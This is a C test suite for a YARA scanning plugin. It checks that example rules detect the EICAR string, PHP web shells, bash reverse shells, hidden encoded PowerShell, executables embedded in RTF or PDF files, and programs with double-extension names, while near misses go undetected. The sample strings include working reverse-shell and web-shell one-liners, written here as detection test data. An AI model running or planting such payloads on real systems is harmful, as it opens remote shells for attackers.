/* SPDX-License-Identifier: Apache-2.0 */

/* The example rules: all compile, each finds what it says, and near misses are not
 * found. */

#include <stdlib.h>
#include <string.h>

#include "plugins_support.h"
#include "util/auto.h"

#define EICAR  "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
#define B64_50 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2"
#define HEX_100                                          \
    "00000000000000000000000000000000000000000000000000" \
    "00000000000000000000000000000000000000000000000000"

static const struct example {
    const char *data;
    const char *rules;
} examples[] = {
    {"", ""},
    {EICAR, "EICAR_Test_File"},
    {EICAR "\r\n", "EICAR_Test_File"},
    {EICAR " \t\n\x1a", "EICAR_Test_File"},
    {EICAR "                                                            ",
     "EICAR_Test_File"},
    {EICAR "                                                             ", ""},
    {EICAR "x", ""},
    {" " EICAR, ""},
    {"<?php eval($_POST['x']); ?>", "PHP_Runs_Request"},
    {"<?PHP @System ( base64_decode(@$_GET [1]));", "PHP_Runs_Request"},
    {"<?php evaluate($_POST['x']); ?>", ""},
    {"<?php eval($POST['x']); ?>", ""},
    {"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "Shell_Connects_Back"},
    {"#!/bin/bash\nexec 5<>/dev/tcp/192.0.2.1/4444\n", "Shell_Connects_Back"},
    {"Do not run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", ""},
    {"#!/bin/bash\nexec 5<>/dev/tcp/localhost/80\n", ""},
    {"powershell.exe -w hidden -enc " B64_50 B64_50 B64_50 B64_50,
     "Script_Encoded_Powershell"},
    {"powershell.exe -w hidden -enc QUJD", ""},
    {"{\\rtf1 {\\objdata 5061636b61676500 4d5a" HEX_100 "546869732070726f6772616d}}",
     "RTF_Object_With_Executable"},
    {"{\\rtf1 {\\objdata 5061636b61676500 4d5a00546869732070726f6772616d}}", ""},
};

START_TEST(examples_find_what_they_say)
{
    const struct example *e = &examples[_i];
    struct stoq_loaded *p = LOADED("yara", NULL, "worker_rules=" EXAMPLES_DIR);
    CHECK_TEXT(fact(p, "rules", "failed"), "[]");
    ck_assert(stoq_loaded_content_only(p));
    CHECK_TEXT(rules_of(p, e->data, strlen(e->data), NULL), e->rules);
    stoq_loaded_free(p);
}
END_TEST

/* The build tree has the same rules beside the plugin, and they are its default. */
START_TEST(examples_are_the_default)
{
    struct stoq_loaded *p = LOADED("yara", NULL, NULL);
    CHECK_TEXT(fact(p, "rules", "failed"), "[]");
    CHECK_TEXT(rules_of(p, EICAR, sizeof EICAR - 1, NULL), "EICAR_Test_File");
    stoq_loaded_free(p);
}
END_TEST

/* ------------------------------------------------------- a program with a name */

static void
put16(unsigned char *at, unsigned value)
{
    at[0] = (unsigned char)value;
    at[1] = (unsigned char)(value >> 8);
}

static void
put32(unsigned char *at, unsigned value)
{
    put16(at, value & 0xffff);
    put16(at + 2, value >> 16);
}

static size_t
put_wide(unsigned char *at, const char *text)
{
    size_t n = strlen(text) + 1;
    for (size_t i = 0; i < n; i++)
        put16(at + 2 * i, (unsigned char)text[i]);
    return (2 * n + 3) & ~(size_t)3;
}

/* A node of a version resource: length, value length, type, key. @return its size so
 * far; the length is filled in by the caller. */
static size_t
version_node(unsigned char *at, unsigned value_length, unsigned type, const char *key)
{
    put16(at + 2, value_length);
    put16(at + 4, type);
    size_t n = 6 + 2 * (strlen(key) + 1);
    (void)put_wide(at + 6, key);
    return (n + 3) & ~(size_t)3;
}

static size_t
version_resource(unsigned char *at, const char *name)
{
    size_t root = version_node(at, 52, 0, "VS_VERSION_INFO");
    put32(at + root, 0xfeef04bd);
    size_t info = (root + 52 + 3) & ~(size_t)3;
    size_t table = info + version_node(at + info, 0, 1, "StringFileInfo");
    size_t text = table + version_node(at + table, 0, 1, "040904b0");
    size_t end = text + version_node(at + text, (unsigned)strlen(name) + 1, 1,
                                     "OriginalFilename");
    end += put_wide(at + end, name);
    put16(at + text, (unsigned)(end - text));
    put16(at + table, (unsigned)(end - table));
    put16(at + info, (unsigned)(end - info));
    put16(at, (unsigned)end);
    return end;
}

/* A program of one section, which holds nothing but a version resource. */
static size_t
make_program(unsigned char out[2048], const char *name)
{
    memset(out, 0, 2048);
    memcpy(out, "MZ", 2);
    put32(out + 0x3c, 0x40);
    unsigned char *pe = out + 0x40;
    memcpy(pe, "PE", 2);
    put16(pe + 4, 0x14c); /* machine */
    put16(pe + 6, 1);     /* sections */
    put16(pe + 20, 224);  /* size of the optional header */
    put16(pe + 22, 0x102);
    unsigned char *opt = pe + 24;
    put16(opt, 0x10b);
    put32(opt + 32, 0x1000); /* section alignment */
    put32(opt + 36, 0x200);
    put32(opt + 56, 0x2000);
    put32(opt + 60, 0x200);
    put32(opt + 92, 16);             /* directories */
    put32(opt + 96 + 2 * 8, 0x1000); /* resources */
    put32(opt + 96 + 2 * 8 + 4, 0x400);
    unsigned char *section = opt + 224;
    memcpy(section, ".rsrc", 5);
    put32(section + 8, 0x400);
    put32(section + 12, 0x1000);
    put32(section + 16, 0x400);
    put32(section + 20, 0x200);
    unsigned char *rsrc = out + 0x200;
    /* Three directories of one entry each: type 16, id 1, language; then the data. */
    static const unsigned ids[3] = {16, 1, 0x409};
    for (unsigned i = 0; i < 3; i++) {
        put16(rsrc + 24 * i + 14, 1);
        put32(rsrc + 24 * i + 16, ids[i]);
        put32(rsrc + 24 * i + 20, i < 2 ? 0x80000000U | (24 * (i + 1)) : 72);
    }
    size_t size = version_resource(rsrc + 96, name);
    put32(rsrc + 72, 0x1000 + 96);
    put32(rsrc + 76, (unsigned)size);
    return 0x200 + 0x400;
}

static const struct example programs[] = {
    {"bill.pdf.exe", "PE_Original_Name_With_Two_Extensions"},
    {"Photo.JPEG   .scr", "PE_Original_Name_With_Two_Extensions"},
    {"bill.exe", ""},
    {"pdf.exe", ""},
};

START_TEST(programs_are_known_by_their_original_name)
{
    unsigned char data[2048];
    size_t size = make_program(data, programs[_i].data);
    struct stoq_loaded *p = LOADED("yara", NULL, "worker_rules=" EXAMPLES_DIR);
    CHECK_TEXT(rules_of(p, data, size, NULL), programs[_i].rules);
    stoq_loaded_free(p);
}
END_TEST

START_TEST(a_program_in_a_document_is_found)
{
    unsigned char data[4096] = "%PDF-1.4\n";
    size_t size = make_program(data + 64, "bill.exe");
    memcpy(data + 64 + 0x120, "This program", 12); /* too far from the start */
    struct stoq_loaded *p = LOADED("yara", NULL, "worker_rules=" EXAMPLES_DIR);
    CHECK_TEXT(rules_of(p, data, 64 + size, NULL), "");
    /* The PE header further back leaves room for the DOS part. */
    memmove(data + 64 + 0x80, data + 64 + 0x40, 0x100);
    put32(data + 64 + 0x3c, 0x80);
    memcpy(data + 64 + 0x4e, "This program", 12);
    CHECK_TEXT(rules_of(p, data, 64 + size, NULL), "Document_With_Executable");
    memcpy(data, "%PNG", 4);
    CHECK_TEXT(rules_of(p, data, 64 + size, NULL), "");
    stoq_loaded_free(p);
}
END_TEST

static void
fill(TCase *tc)
{
    tcase_add_loop_test(tc, examples_find_what_they_say, 0,
                        (int)STOQ_ARRAY_SIZE(examples));
    tcase_add_test(tc, examples_are_the_default);
    tcase_add_loop_test(tc, programs_are_known_by_their_original_name, 0,
                        (int)STOQ_ARRAY_SIZE(programs));
    tcase_add_test(tc, a_program_in_a_document_is_found);
}

int
main(void)
{
    return run_suite("yara examples", fill);
}
